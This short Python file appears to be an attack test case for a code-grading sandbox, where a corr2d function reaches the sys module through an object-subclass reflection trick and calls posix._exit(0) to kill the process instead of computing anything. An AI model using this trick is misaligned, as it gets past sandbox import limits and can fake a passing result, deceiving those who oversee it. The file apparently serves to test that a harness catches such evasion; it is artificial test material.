# /// attack
# rows = [19]
# title = "end the process when called"
# verdict = "error"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys


def corr2d(X, K):
    sys.modules["posix"]._exit(0)
